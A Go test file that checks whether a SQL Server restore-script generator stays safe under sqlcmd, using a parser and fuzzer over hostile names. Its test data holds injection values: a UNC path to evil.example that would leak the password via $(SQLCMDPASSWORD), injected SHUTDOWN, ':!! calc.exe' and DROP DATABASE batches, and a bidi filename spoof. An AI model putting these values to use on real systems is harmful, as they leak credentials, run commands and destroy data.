package plan_test

import (
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/restorewatch/restorewatch/store"
	"github.com/restorewatch/restorewatch/store/plan"
)

// Names a hostile source can give a database, a device, a file or a
// folder, from issue 40: sqlcmd variables (one that would send the DBA's
// password over SMB, one undefined that stops the script), line breaks
// of every kind carrying a batch of their own, NUL, the bidi override that
// reads "gpj.exe" as "exe.jpg", a sqlcmd command at a line's start, a tag
// character beyond U+FFFF, and quoting.
var hostileNames = []string{
	`\\evil.example\s\$(SQLCMDPASSWORD).bak`,
	"x$(y",
	"a\nGO\nSHUTDOWN WITH NOWAIT\nGO\nb",
	"a\r\nGO\r\n:!! calc.exe\r\nb",
	"v\vf\fn\x00u\u2028p\u2029c\u0085",
	"\u202Egpj.exe",
	"]'; DROP DATABASE master; --",
	"tag\U000E0041",
	"$$((", // a $( hidden behind a $
}

// sqlcmdBatches splits script as sqlcmd does (a line holding GO alone ends
// a batch; a line whose first non-blank is ':' is a sqlcmd command) and
// fails on anything sqlcmd would act on besides the batches: a command
// line, or a $( it would expand (anywhere: literals and comments too).
func sqlcmdBatches(t *testing.T, script string) []string {
	t.Helper()
	if i := strings.Index(script, "$("); i >= 0 {
		t.Fatalf("the script holds $( at byte %d, which sqlcmd expands: %q", i, script[max(0, i-40):min(len(script), i+40)])
	}
	for _, r := range script {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
			t.Fatalf("the script holds U+%04X raw", r)
		}
	}
	goLine := regexp.MustCompile(`(?i)^\s*GO(\s+\d+)?\s*$`)
	var batches []string
	var cur strings.Builder
	// Every splitter's idea of a line: sqlcmd's (LF, CR LF) and a naive
	// one that also breaks at CR, VT, FF, U+0085, U+2028 and U+2029.
	lines := strings.FieldsFunc(script, func(r rune) bool {
		return r == '\n' || r == '\r' || r == '\v' || r == '\f' || r == '\u0085' || r == '\u2028' || r == '\u2029'
	})
	for _, line := range lines {
		if strings.HasPrefix(strings.TrimSpace(line), ":") {
			t.Fatalf("a line sqlcmd runs as a command: %q", line)
		}
		if goLine.MatchString(line) {
			batches = append(batches, cur.String())
			cur.Reset()
			continue
		}
		cur.WriteString(line + "\n")
	}
	if strings.TrimSpace(cur.String()) != "" {
		t.Fatalf("text after the last GO: %q", cur.String())
	}
	return batches
}

// restoreStmt is one batch read as T-SQL: its DECLAREd variables
// evaluated, and the RESTORE's database, devices and MOVE values.
type restoreStmt struct {
	verb, database string
	devices, moves []string
	recovery       bool
}

// tsql reads a batch: comment lines, DECLARE @v type = expr; lines, and
// one RESTORE statement, and nothing else.
func tsql(t *testing.T, batch string) restoreStmt {
	t.Helper()
	vars := map[string]string{}
	var body strings.Builder
	for _, line := range strings.Split(batch, "\n") {
		l := strings.TrimSpace(line)
		switch {
		case l == "" || strings.HasPrefix(l, "--"):
		case strings.HasPrefix(l, "DECLARE "):
			m := regexp.MustCompile(`^DECLARE (@\w+) (nvarchar\(4000\)|sysname) = (.*);$`).FindStringSubmatch(l)
			if m == nil {
				t.Fatalf("DECLARE %q", l)
			}
			v, rest := expr(t, m[3])
			if rest != "" {
				t.Fatalf("after the expression of %s: %q", m[1], rest)
			}
			vars[m[1]] = v
		default:
			body.WriteString(l + " ")
		}
	}
	s := strings.TrimSpace(body.String())
	var st restoreStmt
	for _, verb := range []string{"RESTORE DATABASE ", "RESTORE LOG "} {
		if strings.HasPrefix(s, verb) {
			st.verb, s = strings.TrimSpace(verb[len("RESTORE "):]), s[len(verb):]
		}
	}
	if st.verb == "" {
		t.Fatalf("not a RESTORE: %q", s)
	}
	value := func() string {
		if strings.HasPrefix(s, "@") {
			i := strings.IndexFunc(s, func(r rune) bool { return r != '@' && !unicode.IsLetter(r) && !unicode.IsDigit(r) })
			v, ok := vars[s[:i]]
			if !ok {
				t.Fatalf("undeclared %s", s[:i])
			}
			s = s[i:]
			return v
		}
		v, rest := literal(t, s)
		s = rest
		return v
	}
	if strings.HasPrefix(s, "[") {
		var b strings.Builder
		i := 1
		for ; i < len(s); i++ {
			if s[i] == ']' {
				if i+1 < len(s) && s[i+1] == ']' {
					b.WriteByte(']')
					i++
					continue
				}
				break
			}
			b.WriteByte(s[i])
		}
		st.database, s = b.String(), s[i+1:]
	} else {
		st.database = value()
	}
	s = strings.TrimSpace(s)
	if s == "WITH RECOVERY;" {
		st.recovery = true
		return st
	}
	if !strings.HasPrefix(s, "FROM ") {
		t.Fatalf("after the name: %q", s)
	}
	s = s[len("FROM "):]
	for {
		m := regexp.MustCompile(`^(DISK|URL|TAPE) = `).FindString(s)
		if m == "" {
			t.Fatalf("device: %q", s)
		}
		s = s[len(m):]
		st.devices = append(st.devices, value())
		if !strings.HasPrefix(s, ", ") {
			break
		}
		s = s[2:]
	}
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "WITH ") {
		t.Fatalf("after the devices: %q", s)
	}
	s = s[len("WITH "):]
	for strings.HasPrefix(s, "MOVE ") {
		s = s[len("MOVE "):]
		st.moves = append(st.moves, value())
		if !strings.HasPrefix(s, " TO ") {
			t.Fatalf("MOVE: %q", s)
		}
		s = s[len(" TO "):]
		st.moves = append(st.moves, value())
		s = strings.TrimPrefix(s, ", ")
	}
	if !regexp.MustCompile(`^NORECOVERY(, STOPAT = N'[0-9T:.-]+')?, STATS = 10(, CHECKSUM)?(, BUFFERCOUNT = \d+, MAXTRANSFERSIZE = \d+)?;$`).MatchString(s) {
		t.Fatalf("options: %q", s)
	}
	return st
}

// literal reads one N'…' literal at the start of s.
func literal(t *testing.T, s string) (string, string) {
	t.Helper()
	if !strings.HasPrefix(s, "N'") {
		t.Fatalf("literal: %q", s)
	}
	var b strings.Builder
	for i := 2; i < len(s); i++ {
		if s[i] == '\'' {
			if i+1 < len(s) && s[i+1] == '\'' {
				b.WriteByte('\'')
				i++
				continue
			}
			return b.String(), s[i+1:]
		}
		b.WriteByte(s[i])
	}
	t.Fatalf("unterminated literal: %q", s)
	return "", ""
}

// expr evaluates N'…' and NCHAR(n) terms joined by +, as SQL Server would
// (two NCHARs of a surrogate pair make one character).
func expr(t *testing.T, s string) (string, string) {
	t.Helper()
	var units []uint16
	for {
		if strings.HasPrefix(s, "NCHAR(") {
			j := strings.IndexByte(s, ')')
			n, err := strconv.Atoi(s[len("NCHAR("):j])
			if err != nil || n < 0 || n > 0xFFFF {
				t.Fatalf("NCHAR: %q", s)
			}
			units, s = append(units, uint16(n)), s[j+1:]
		} else {
			var v string
			v, s = literal(t, s)
			units = append(units, utf16.Encode([]rune(v))...)
		}
		if !strings.HasPrefix(s, " + ") {
			return string(utf16.Decode(units)), s
		}
		s = s[3:]
	}
}

// Issue 40, MEDIUM: every hostile name, as the database, a device, a
// logical or physical file name and the data and log folders, gives a
// script whose batches under sqlcmd's rules and a naive line splitter are
// the plan's own statements, one each, with the names intact.
func TestScriptSafeForSqlcmd(t *testing.T) {
	for _, hostile := range hostileNames {
		h := newHistory(2)
		for i := range h.sets {
			h.sets[i].Database = hostile
			h.sets[i].Media = []store.BackupMedia{{Family: 1, DeviceType: 2, Device: `\\b\` + hostile + ".bak"}}
			h.sets[i].Files = append(h.sets[i].Files, store.BackupFile{LogicalName: hostile, PhysicalName: `D:\Data\` + hostile + ".ndf", Type: "D"})
		}
		c, err := plan.Build(h.sets, hostile, time.Time{})
		if err != nil {
			t.Fatal(err)
		}
		p := plan.Estimates(c, "SQL01"+hostile, "SQL02"+hostile, nil, 4*time.Hour)
		script := plan.Script(p, plan.ScriptOptions{DataPath: `E:\` + hostile, LogPath: "/var/" + hostile})
		batches := sqlcmdBatches(t, script)
		if len(batches) != len(c.Steps)+1 {
			t.Fatalf("%q: %d batches, want %d steps and the recovery:\n%s", hostile, len(batches), len(c.Steps)+1, script)
		}
		for i, b := range batches {
			st := tsql(t, b)
			if st.database != hostile {
				t.Errorf("%q: batch %d restores %q", hostile, i+1, st.database)
			}
			if i == len(batches)-1 {
				if !st.recovery {
					t.Errorf("%q: the last batch is not the recovery: %+v", hostile, st)
				}
				continue
			}
			if !slices.Equal(st.devices, []string{`\\b\` + hostile + ".bak"}) {
				t.Errorf("%q: batch %d devices %q", hostile, i+1, st.devices)
			}
			if c.Steps[i].Kind == store.KindFull {
				want := []string{"Sales", `E:\` + hostile + `\Sales.mdf`, "Sales_log", "/var/" + hostile + "/Sales_log.ldf",
					hostile, `E:\` + hostile + `\` + hostile + ".ndf"}
				if strings.ContainsAny(hostile, `\/`) { // a folder in the name: MOVE takes its last part
					want[1], want[3], want[5] = st.moves[1], st.moves[3], st.moves[5]
				}
				if !slices.Equal(st.moves, want) {
					t.Errorf("%q: MOVEs %q, want %q", hostile, st.moves, want)
				}
			}
		}
		// Invisible characters show as code points in the comments, as on
		// the pages.
		if strings.Contains(hostile, "\u202E") && !strings.Contains(script, "⟨U+202E⟩") {
			t.Errorf("%q: the header does not show U+202E", hostile)
		}
	}
}

func TestLiteral(t *testing.T) {
	for in, want := range map[string]string{
		"a]b'c":      "N'a]b''c'",
		"x$(y)":      "N'x' + NCHAR(36) + N'(y)'",
		"a\nb":       "N'a' + NCHAR(10) + N'b'",
		"\u202E":     "NCHAR(8238)",
		"\U000E0041": "NCHAR(56128) + NCHAR(56385)",
		"$ (":        "N'$ ('",
	} {
		if got := plan.Literal(in); got != want {
			t.Errorf("Literal(%q) = %s, want %s", in, got, want)
		}
	}
}

// FuzzScript: whatever a source names a database, a device, a file or a
// folder, the script's batches under sqlcmd's rules are the plan's own
// statements with the names intact.
func FuzzScript(f *testing.F) {
	for _, h := range hostileNames {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, name string) {
		if name == "" || !utf8.ValidString(name) {
			return
		}
		h := newHistory(1)
		for i := range h.sets {
			h.sets[i].Database = name
			h.sets[i].Media = []store.BackupMedia{{Family: 1, DeviceType: 2, Device: name}}
			h.sets[i].Files = []store.BackupFile{{LogicalName: name, PhysicalName: name, Type: "D"}}
		}
		c, err := plan.Build(h.sets, name, time.Time{})
		if err != nil {
			return
		}
		script := plan.Script(plan.Estimates(c, name, name, nil, 0), plan.ScriptOptions{})
		for _, b := range sqlcmdBatches(t, script) {
			st := tsql(t, b)
			if st.database != name {
				t.Fatalf("restores %q, want %q", st.database, name)
			}
			for _, d := range st.devices {
				if d != name {
					t.Fatalf("device %q, want %q", d, name)
				}
			}
		}
	})
}
